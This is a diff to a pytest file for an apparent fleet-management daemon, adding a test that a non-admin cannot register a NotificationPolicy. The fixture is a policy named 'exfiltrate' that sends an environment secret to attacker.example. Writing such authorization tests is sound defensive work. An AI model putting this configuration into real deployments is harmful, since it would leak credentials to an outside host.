@@ -295,14 +295,33 @@ _IMAGE_SOURCE = {
         "key": "release",
     },
 }
+_NOTIFICATION = {
+    "apiVersion": "gitfirm.io/v1",
+    "kind": "NotificationPolicy",
+    "metadata": {"name": "exfiltrate"},
+    "spec": {
+        "filter": {"severity": "info"},
+        "targets": [{
+            "name": "attacker",
+            "url": "json://attacker.example/{token}",
+            "secrets": {"token": {"env": "NOTIFY_SECRET_SMTP"}},
+        }],
+    },
+}  # fmt: skip
 
 
-@pytest.mark.parametrize("doc", [_DISCOVERY, _IMAGE_SOURCE], ids=["DiscoveryPolicy", "ImageSource"])
+@pytest.mark.parametrize(
+    "doc",
+    [_DISCOVERY, _IMAGE_SOURCE, _NOTIFICATION],
+    ids=["DiscoveryPolicy", "ImageSource", "NotificationPolicy"],
+)
 async def test_only_the_admin_adds_discovery_and_image_sources(
     world: World, doc: dict[str, object]
 ) -> None:
     """A DiscoveryPolicy aims the daemon's probes (and a device key) at a network; an
-    ImageSource feeds builds into proposals: neither is a netops decision, wherever it lives."""
+    ImageSource feeds builds into proposals; a NotificationPolicy sends fleet news and a
+    secret of the daemon's environment to a URL: none is a netops decision, wherever it
+    lives."""
     ops = world.ops
     kind = str(doc["kind"])
     files = {"fleet/sources.yaml": yaml.safe_dump(doc)}
@@ -311,4 +330,5 @@ async def test_only_the_admin_adds_discovery_and_image_sources(
     desired = ops.daemon.state.desired
     assert desired is not None
     assert not desired.discovery_policies and not desired.image_sources
+    assert not desired.notification_policies and not ops.daemon.notifier.routes
     assert_untouched(ops)
